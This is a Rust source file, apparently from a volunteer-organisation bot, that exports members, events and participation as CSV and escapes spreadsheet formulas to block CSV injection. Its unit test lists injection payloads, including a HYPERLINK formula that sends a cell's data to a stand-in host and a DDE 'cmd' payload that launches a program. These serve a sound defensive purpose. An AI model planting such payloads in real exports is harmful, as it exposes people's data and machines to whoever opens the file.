//! CSV exports of a scope (a region, or the country): members, events, participation.
//!
//! Files are UTF-8 with a byte-order mark, so spreadsheet programs read Kazakh letters right.
//! `/export` sends them; `birlik export --out DIR` writes them, readable by their owner only.
//! Every CSV the bot writes (these, `/volunteers`, a broadcast's "not reached") goes through
//! [`csv_bytes`], which keeps people's text from running as a spreadsheet formula. Headers are
//! in the reader's language (the `csv-*` locale keys); values stay machine-readable: plain
//! numbers with a decimal point and no grouping, `05.12.2026 15:00` times, statuses as stored.

use anyhow::Context;
use sqlx::SqlitePool;

use crate::domain::event::{format_hours, format_time};
use crate::domain::status::{EventStatus, MemberStatus, SignupStatus};
use crate::i18n::{Lang, Locales};

/// One CSV file.
pub struct ExportFile {
    pub name: String,
    pub bytes: Vec<u8>,
    pub rows: usize,
}

/// A cell of a CSV file: text that came from people, or a figure the bot computed itself.
///
/// Text is neutralised (see [`neutralise`]); a figure is written as it is, so counts and
/// negative numbers (a group's chat id) stay numbers in a spreadsheet. Phone numbers are text:
/// `+77011234567` becomes `'+77011234567`, which also keeps a spreadsheet from turning it into
/// 77011234567 and dropping the plus.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    Text(String),
    Figure(i64),
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Cell::Text(text)
    }
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Cell::Text(text.to_owned())
    }
}

impl From<Option<String>> for Cell {
    fn from(text: Option<String>) -> Self {
        Cell::Text(text.unwrap_or_default())
    }
}

impl From<i64> for Cell {
    fn from(figure: i64) -> Self {
        Cell::Figure(figure)
    }
}

impl From<Option<i64>> for Cell {
    fn from(figure: Option<i64>) -> Self {
        figure.map_or(Cell::Text(String::new()), Cell::Figure)
    }
}

impl Cell {
    /// `yes` or `no`, the same in every language, like the statuses.
    pub fn yes_no(yes: bool) -> Self {
        Cell::from(if yes { "yes" } else { "no" })
    }
}

/// Text a spreadsheet would run as a formula (it starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return) gets a leading `'`, the OWASP rule against CSV injection: an event titled
/// `=HYPERLINK(...)` reaches an admin's Excel as text.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text.into()
    }
}

/// A CSV document with a byte-order mark, from a header and rows: every CSV the bot and the
/// command line write goes through here.
pub fn csv_bytes(
    header: &[impl AsRef<str>],
    rows: impl IntoIterator<Item = Vec<Cell>>,
) -> anyhow::Result<(Vec<u8>, usize)> {
    let mut csv = csv::Writer::from_writer("\u{feff}".as_bytes().to_vec());
    csv.write_record(header.iter().map(|name| neutralise(name.as_ref()).into_owned()))?;
    let mut count = 0;
    for row in rows {
        csv.write_record(row.iter().map(|cell| match cell {
            Cell::Text(text) => neutralise(text).into_owned(),
            Cell::Figure(figure) => figure.to_string(),
        }))?;
        count += 1;
    }
    Ok((csv.into_inner()?, count))
}

/// [`csv_bytes`] headed in `lang` by the `csv-*` keys of its `columns`, on a blocking thread,
/// rows built there too: a country-wide file takes long enough to hold up the threads that
/// answer people.
pub async fn csv_off_thread<R>(
    locales: &Locales,
    lang: Lang,
    columns: &[&str],
    rows: R,
) -> anyhow::Result<(Vec<u8>, usize)>
where
    R: IntoIterator<Item = Vec<Cell>> + Send + 'static,
{
    let header: Vec<String> = columns.iter().map(|key| locales.text(lang, key)).collect();
    tokio::task::spawn_blocking(move || csv_bytes(&header, rows))
        .await
        .context("writing a CSV file")?
}

impl ExportFile {
    /// The file `name` of an export: `rows` under the headers of `columns` in `lang`.
    async fn write<R>(
        name: String,
        locales: &Locales,
        lang: Lang,
        columns: &[&str],
        rows: R,
    ) -> anyhow::Result<Self>
    where
        R: IntoIterator<Item = Vec<Cell>> + Send + 'static,
    {
        let (bytes, rows) = csv_off_thread(locales, lang, columns, rows).await?;
        Ok(ExportFile { name, bytes, rows })
    }
}

/// Writes an export to `path` readable by its owner only (mode 0600, whatever the umask), as
/// it holds personal data; a file already there is replaced and made private too.
pub fn write_private(path: &std::path::Path, bytes: &[u8]) -> std::io::Result<()> {
    use std::io::Write;
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o600)
        .open(path)?;
    // The mode above applies only to a new file.
    file.set_permissions(std::fs::Permissions::from_mode(0o600))?;
    file.write_all(bytes)?;
    file.sync_all()
}

type MemberRow = (
    i64,
    Option<String>,
    String,
    Option<String>,
    i32,
    Option<String>,
    String,
    MemberStatus,
    i64,
);
type EventRow = (
    i64,
    String,
    Option<String>,
    String,
    i64,
    i64,
    Option<i64>,
    EventStatus,
    i64,
    i64,
    i64,
    i64,
    i64,
    i64,
);
type ParticipationRow = (
    i64,
    String,
    i64,
    i64,
    Option<String>,
    SignupStatus,
    bool,
    Option<i64>,
    i64,
);

/// The three files of a scope, headed in `lang`: `region` `None` is the whole country.
pub async fn build(
    pool: &SqlitePool,
    locales: &Locales,
    lang: Lang,
    region: Option<&str>,
    now: i64,
) -> anyhow::Result<Vec<ExportFile>> {
    let scope = region.unwrap_or("KZ");
    let member_rows: Vec<MemberRow> = sqlx::query_as(
        "SELECT m.id, m.full_name, m.region_iso, w.name, m.birth_year, m.phone, m.lang, m.status, m.registered_at
         FROM members m LEFT JOIN wings w ON w.id = m.wing_id
         WHERE ?1 IS NULL OR m.region_iso = ?1 ORDER BY m.id",
    )
    .bind(region)
    .fetch_all(pool)
    .await?;
    let members = ExportFile::write(
        format!("members-{scope}.csv"),
        locales,
        lang,
        &[
            "csv-member-id",
            "csv-full-name",
            "csv-region",
            "csv-wing",
            "csv-birth-year",
            "csv-phone",
            "csv-language",
            "csv-status",
            "csv-registered-at",
        ],
        member_rows
            .into_iter()
            .map(|(id, name, region, wing, year, phone, lang, status, at)| {
                vec![
                    id.into(),
                    name.into(),
                    region.into(),
                    wing.into(),
                    i64::from(year).into(),
                    phone.into(),
                    lang.into(),
                    status.as_str().into(),
                    format_time(at).into(),
                ]
            }),
    )
    .await?;

    let event_rows: Vec<EventRow> = sqlx::query_as(
        "SELECT e.id, e.title, e.region_iso, e.place, e.starts_at, e.ends_at, e.capacity, e.status,
             COALESCE(SUM(s.status = 'confirmed'), 0), COALESCE(SUM(s.status = 'waiting'), 0),
             COALESCE(SUM(s.status = 'cancelled'), 0),
             COALESCE(SUM(s.attended = 1 AND s.status != 'cancelled'), 0),
             COALESCE(SUM(s.status = 'confirmed' AND s.attended = 0 AND e.ends_at <= ?2 AND e.status != 'cancelled'), 0),
             COALESCE(SUM(CASE WHEN s.attended = 1 AND s.status != 'cancelled' THEN e.ends_at - e.starts_at END), 0)
         FROM events e LEFT JOIN signups s ON s.event_id = e.id
         WHERE ?1 IS NULL OR e.region_iso = ?1
         GROUP BY e.id ORDER BY e.starts_at",
    )
    .bind(region)
    .bind(now)
    .fetch_all(pool)
    .await?;
    let events = ExportFile::write(
        format!("events-{scope}.csv"),
        locales,
        lang,
        &[
            "csv-event-id",
            "csv-title",
            "csv-region",
            "csv-place",
            "csv-starts-at",
            "csv-ends-at",
            "csv-capacity",
            "csv-status",
            "csv-confirmed",
            "csv-waiting",
            "csv-cancelled",
            "csv-attended-count",
            "csv-no-shows",
            "csv-volunteer-hours",
        ],
        event_rows.into_iter().map(
            |(
                id,
                title,
                region,
                place,
                starts,
                ends,
                capacity,
                status,
                confirmed,
                waiting,
                cancelled,
                attended,
                no_shows,
                seconds,
            )| {
                vec![
                    id.into(),
                    title.into(),
                    region.into(),
                    place.into(),
                    format_time(starts).into(),
                    format_time(ends).into(),
                    capacity.into(),
                    status.as_str().into(),
                    confirmed.into(),
                    waiting.into(),
                    cancelled.into(),
                    attended.into(),
                    no_shows.into(),
                    format_hours(seconds).into(),
                ]
            },
        ),
    )
    .await?;

    let participation_rows: Vec<ParticipationRow> = sqlx::query_as(
        "SELECT e.id, e.title, e.starts_at, m.id, m.full_name, s.status, s.attended, s.checked_in_at,
             CASE WHEN s.attended = 1 AND s.status != 'cancelled' THEN e.ends_at - e.starts_at ELSE 0 END
         FROM signups s JOIN events e ON e.id = s.event_id JOIN members m ON m.id = s.member_id
         WHERE ?1 IS NULL OR e.region_iso = ?1 ORDER BY e.starts_at, s.seq",
    )
    .bind(region)
    .fetch_all(pool)
    .await?;
    let participation = ExportFile::write(
        format!("participation-{scope}.csv"),
        locales,
        lang,
        &[
            "csv-event-id",
            "csv-event-title",
            "csv-event-start",
            "csv-member-id",
            "csv-full-name",
            "csv-status",
            "csv-attended",
            "csv-checked-in-at",
            "csv-volunteer-hours",
        ],
        participation_rows.into_iter().map(
            |(event, title, start, member, name, status, attended, checked_in, seconds)| {
                vec![
                    event.into(),
                    title.into(),
                    format_time(start).into(),
                    member.into(),
                    name.into(),
                    status.as_str().into(),
                    Cell::yes_no(attended),
                    checked_in.map(format_time).into(),
                    format_hours(seconds).into(),
                ]
            },
        ),
    )
    .await?;
    Ok(vec![members, events, participation])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_a_spreadsheet_would_run_gets_a_leading_quote() {
        for formula in [
            "=HYPERLINK(\"https://x.example/?\"&B2,\"open\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "+77011234567",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"));
        }
        for text in [
            "Tree planting",
            "2026-12-05 15:00",
            "Ақмешіт",
            "",
            "a=b",
            "'quoted",
        ] {
            assert_eq!(neutralise(text), text);
        }
    }

    #[test]
    fn figures_stay_numbers_and_text_is_neutralised_in_the_file() {
        let (bytes, rows) = csv_bytes(
            &["chat", "title"],
            [vec![Cell::Figure(-1001234), Cell::from("=1+1")]],
        )
        .unwrap();
        assert_eq!(rows, 1);
        assert_eq!(
            String::from_utf8(bytes).unwrap(),
            "\u{feff}chat,title\n-1001234,'=1+1\n"
        );
    }
}
